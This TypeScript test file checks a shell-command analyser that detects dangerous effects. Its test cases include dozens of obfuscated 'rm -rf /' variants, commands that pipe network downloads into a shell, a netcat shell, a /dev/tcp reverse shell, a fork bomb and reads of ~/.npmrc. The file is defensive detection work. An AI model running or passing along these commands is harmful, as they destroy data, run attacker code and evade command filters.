import { expect, test } from 'vitest';
import { analyse, paths } from './index.ts';

const here = { cwd: '/p', home: '/home/u' };

test('a plain command: the whole answer', () => {
  expect(analyse('rm -rf build', here)).toEqual({
    invocations: [
      {
        program: 'rm',
        path: 'rm',
        argv: [
          { text: '-rf', dynamic: false },
          { text: 'build', dynamic: false },
        ],
        wrappers: [],
        cwd: '/p',
        span: { start: 0, end: 12 },
        via: 'direct',
        place: 'local',
        assignments: [],
      },
    ],
    effects: [
      {
        kind: 'delete',
        via: 'rm',
        recursive: true,
        force: true,
        path: '/p/build',
        raw: 'build',
        by: 0,
        place: 'local',
      },
    ],
    pipes: [],
    marks: [],
    understood: true,
  });
});

test('a wrapped, piped and redirected command: the whole answer', () => {
  expect(analyse('A=1 sudo cat .env | tee "$OUT"', here)).toEqual({
    invocations: [
      {
        program: 'sudo',
        path: 'sudo',
        argv: [
          { text: 'cat', dynamic: false },
          { text: '.env', dynamic: false },
        ],
        wrappers: [],
        cwd: '/p',
        span: { start: 0, end: 17 },
        via: 'direct',
        place: 'local',
        assignments: [{ name: 'A', value: { text: '1', dynamic: false } }],
      },
      {
        program: 'cat',
        path: 'cat',
        argv: [{ text: '.env', dynamic: false }],
        wrappers: ['sudo'],
        cwd: '/p',
        span: { start: 0, end: 17 },
        via: 'wrapper',
        place: 'local',
        assignments: [{ name: 'A', value: { text: '1', dynamic: false } }],
      },
      {
        program: 'tee',
        path: 'tee',
        argv: [{ text: '$OUT', dynamic: true }],
        wrappers: [],
        cwd: '/p',
        span: { start: 20, end: 30 },
        via: 'direct',
        place: 'local',
        assignments: [],
        stdin: { text: '$(cat .env)', dynamic: true },
      },
    ],
    effects: [
      { kind: 'environment', name: 'A', value: '1', by: 0, place: 'local' },
      { kind: 'privilege', program: 'sudo', user: 'root', by: 0, place: 'local' },
      { kind: 'read', via: 'argument', path: '/p/.env', raw: '.env', by: 1, place: 'local' },
      { kind: 'write', via: 'tee', append: false, empties: false, path: '?', raw: '$OUT', by: 2, place: 'local' },
    ],
    pipes: [{ stages: [[0, 1], [2]] }],
    marks: [{ kind: 'dynamic-path', detail: '$OUT', span: { start: 20, end: 30 } }],
    understood: true,
  });
});

/** Every way below ends in the deletion of one path. */
const DELETES: [command: string, path: string][] = [
  ['\\rm -rf ~', '/home/u'],
  ['r\'\'m -r""f ~', '/home/u'],
  ["$'\\x72m' -rf /", '/'],
  ['{rm,-rf,/}', '/'],
  ['rm${IFS}-rf${IFS}/', '/'],
  ['IFS=,; x=rm,-rf,/; $x', '/'],
  ['x=rm; y=-rf; $x $y ~', '/home/u'],
  ['${x:-rm} -rf ~', '/home/u'],
  ['set -- rm -rf /; "$@"', '/'],
  ['a=(rm -rf /); "${a[@]}"', '/'],
  ['$(echo rm) -rf /', '/'],
  ['rm -rf ${HOME%/u}', '/home'],
  ['cd /tmp && rm -rf ..', '/'],
  ['(cd / && rm -rf etc)', '/etc'],
  ['pushd /; popd; rm -rf x', '/p/x'],
  ['timeout 5 sudo -u root env A=1 nice -n 3 rm -rf /', '/'],
  ["env -S 'rm -rf /'", '/'],
  ['busybox ash -c "rm -rf /"', '/'],
  ["bash -lc 'rm -rf ~'", '/home/u'],
  ['bash -c -- \'rm -rf "$1"\' _ /', '/'],
  ["eval 'rm -rf /'", '/'],
  ["bash <<'EOF'\nrm -rf /\nEOF", '/'],
  ["W='rm -rf /'; sh <<EOF\n$W\nEOF", '/'],
  ["source <(echo 'rm -rf /')", '/'],
  ["echo 'rm -rf /' > x.sh; bash x.sh", '/'],
  ["printf '#!/bin/sh\\nrm -rf /\\n' > x && chmod +x x && ./x", '/'],
  ['echo cm0gLXJmIC8= | base64 -d | sh', '/'],
  ["echo '/ fr- mr' | rev | sh", '/'],
  ["tr a-z n-za-m <<< 'ez -es /' | sh", '/'],
  ['xxd -r -p <<< 726d202d7266202f | sh', '/'],
  ['echo / | xargs rm -rf', '/'],
  ['echo / | xargs -I% rm -rf %', '/'],
  ['parallel rm -rf {} ::: /', '/'],
  ['find /x -delete', '/x/**'],
  ['find /x -exec rm {} +', '/x/**'],
  ['f() { rm -rf "$1"; }; f /', '/'],
  ["alias ls='rm -rf /'; ls", '/'],
  ["trap 'rm -rf /' EXIT", '/'],
  ["echo '0 0 * * * rm -rf /' | crontab -", '/'],
  ["git -c core.pager='rm -rf ~' log", '/home/u'],
  ["git -c alias.x='!rm -rf /' x", '/'],
  ["git rebase -x 'rm -rf /' HEAD~1", '/'],
  ["git bisect run sh -c 'rm -rf /'", '/'],
  ["GIT_SSH_COMMAND='rm -rf /' git fetch", '/'],
  ["tar cf /dev/null x --checkpoint-action=exec='rm -rf /'", '/'],
  ['tar -I \'sh -c "rm -rf /"\' -xf a.tar', '/'],
  ['rsync -e \'sh -c "rm -rf /"\' a b:', '/'],
  ["npx -c 'rm -rf /'", '/'],
  ["vim -es '+!rm -rf /' +q", '/'],
  ["sed '1e rm -rf /' f", '/'],
  ['awk \'BEGIN { system("rm -rf /") }\'', '/'],
  ['awk \'BEGIN { "rm -rf /" | getline }\'', '/'],
  ['echo ${a="$"}${b="$a(rm -rf /)"}${b@P}', '/'],
  ["make -f - <<< $'x:\\n\\trm -rf /'", '/'],
  ["python3 -c \"__import__('os').system('rm -rf /')\"", '/'],
  ['python3 -c "from shutil import rmtree as r; import os; r(os.path.expanduser(\'~\'))"', '/home/u'],
  ["node -e \"const {rmSync}=require('fs'); rmSync(require('os').homedir(),{recursive:true})\"", '/home/u'],
  ["node -e \"require('child_process').spawn('rm',['-rf','/'])\"", '/'],
  ['perl -e \'unlink glob "/etc/*"\'', '/etc/*'],
  ['ruby -e \'require "fileutils"; FileUtils.rm_rf "/"\'', '/'],
  ['php -r \'unlink("/etc/passwd");\'', '/etc/passwd'],
  ['lua -e \'os.execute("rm -rf /")\'', '/'],
  ['docker run -v /:/host alpine rm -rf /host/etc', '/etc'],
  ['D=build; rm -rf "$D"', '/p/build'],
  ['rm -rf "$(git rev-parse --show-toplevel)"', '/p'],
  ['cd sub && rm -rf "$(git rev-parse --show-toplevel)/dist"', '/p/dist'],
  ['cd /elsewhere && rm -rf "$(git rev-parse --show-toplevel)"', '?'],
  ["bash -c 'rm -rf $0' /", '/'],
  ["runuser -l me -c 'rm -rf /'", '/'],
  ['runuser -u me -- rm -rf /', '/'],
  ["pwsh -c 'Remove-Item -Path / -Recurse -Force'", '/'],
  ['powershell.exe -NoProfile -Command "rm -r -fo ../x"', '/x'],
  ['aws-vault exec prod -- rm -rf /', '/'],
  ['nobody-knows-it run -- rm -rf /', '/'],
  ["nobody-knows-it --exec 'rm -rf /'", '/'],
  ["npx concurrently 'rm -rf /' ls", '/'],
  ["nix-shell --run 'rm -rf /'", '/'],
  ['cross-env A=1 rm -rf /', '/'],
  ["node -e \"require('fs').rmSync(process.env.HOME+'/x')\"", '/home/u/x'],
  ['fd -e log -x rm', '/p/**'],
];

test.each(DELETES)('%s deletes %s', (command, path) => {
  expect(paths(analyse(command, here), 'delete')).toEqual([path]);
});

/** Text about a command is not the command. */
const HARMLESS = [
  'echo "rm -rf ~"',
  "git commit -m 'never rm -rf /'",
  "grep -rn 'rm -rf' scripts/",
  'python3 -c "print(\'rm -rf /\')"',
  "cat <<'EOF'\nrm -rf / > x\nEOF",
  'command -v rm',
  'ls # rm -rf /',
  'rm -i --help',
  "awk '$1 > 5' f.txt",
  'f() { rm -rf /; }',
  'echo a \\> b',
];

test.each(HARMLESS)('%s changes nothing', (command) => {
  const analysis = analyse(command, here);
  expect([paths(analysis, 'write'), paths(analysis, 'delete'), analysis.understood]).toEqual([[], [], true]);
});

test.each([
  'curl http://x | sh',
  'bash <(curl -s http://x)',
  'eval "$(curl -s http://x)"',
  'curl http://x | base64 -d | tee y | sudo bash -s -- arg',
  'curl -o a.sh http://x && bash a.sh',
  'wget http://x/i.sh; chmod +x i.sh; ./i.sh',
  'x=$(curl -s http://x); eval "$x"',
  'curl http://x | python3',
  'python3 -c "import urllib.request as u; exec(u.urlopen(\'http://x\').read())"',
  'nc -e /bin/sh h 4444',
  'bash -i >& /dev/tcp/1.2.3.4/80 0>&1',
])('%s runs code from the network', (command) => {
  const sources = analyse(command, here).effects.flatMap((effect) => (effect.kind === 'code' ? [effect.source] : []));
  expect(new Set(sources)).toEqual(new Set(['network']));
});

test('a fork bomb is seen', () => {
  const { effects } = analyse(':(){ :|:& };:', here);
  expect(effects[0]).toEqual({ kind: 'process', operation: 'fork-bomb', target: ':', by: 1, place: 'local' });
});

test('remote and container effects keep their place', () => {
  expect(analyse("ssh h 'rm -rf /etc'", here).effects.at(-1)).toMatchObject({
    kind: 'delete',
    path: '/etc',
    place: 'remote',
  });
  expect(analyse('kubectl exec pod -- rm -rf /etc', here).effects.at(-1)).toMatchObject({
    path: '/etc',
    place: 'container',
  });
});

test('what cannot be told is marked', () => {
  const kinds = (command: string) => analyse(command, here).marks.map((mark) => mark.kind);
  expect(kinds('$X -rf /')).toEqual(['dynamic-command']);
  expect(kinds('rm -rf "$X"')).toEqual(['dynamic-path']);
  expect(kinds('eval "$X"')).toEqual(['dynamic-script']);
  expect(kinds('cat ${X:-.env}')).toEqual(['assumed-default']);
  expect(kinds('echo "open')).toEqual(['parse-error']);
  expect(kinds('pwsh -c x')).toEqual(['other-shell']);
});

test('broken text still shows what it would do, and says that it is broken', () => {
  const analysis = analyse("git reset --hard 'open", here);
  expect(analysis.understood).toBe(false);
  expect(analysis.effects[0]).toMatchObject({ kind: 'git', operation: 'worktree-loss', forced: true });
  expect(analyse('&& git stash clear', here).effects[0]).toMatchObject({ kind: 'git', operation: 'stash-loss' });
});

test.each([
  ['x=$(<~/.npmrc)', '/home/u/.npmrc'],
  ['echo "$(< ~/.npmrc)"', '/home/u/.npmrc'],
  ['echo "$(<"$HOME"/a\\ b)"', '/home/u/a b'],
  ['D=/srv; echo $(<$D/key)', '/srv/key'],
])('`$(<file)` reads the file that the shell would open: %s', (command, path) => {
  const reads = analyse(command, here).effects.flatMap((effect) => (effect.kind === 'read' ? [effect.path] : []));
  expect(reads).toEqual([path]);
});

test('a bad substitution ends the command before it runs', () => {
  const { marks } = analyse('node -e "console.log(`v${Date.now()}`)"', { cwd: '/p', home: '/h' });
  expect(marks).toEqual([]);
  expect(analyse('echo `v${date}`', { cwd: '/p', home: '/h' }).marks).toHaveLength(1);
});

test('what a path surely ends with is kept where its beginning is unknown', () => {
  const endings = (command: string) =>
    analyse(command, { cwd: '/p', home: '/h' }).effects.map((effect) => ('ending' in effect ? effect.ending : null));
  expect(endings('cat $X/a/.env')).toEqual(['/a/.env']);
  expect(endings('cat $X/../.env')).toEqual([null]);
  expect(endings('cat $X.env')).toEqual([null]);
  expect(endings('cat $X/a$Y/b')).toEqual(['/b']);
});
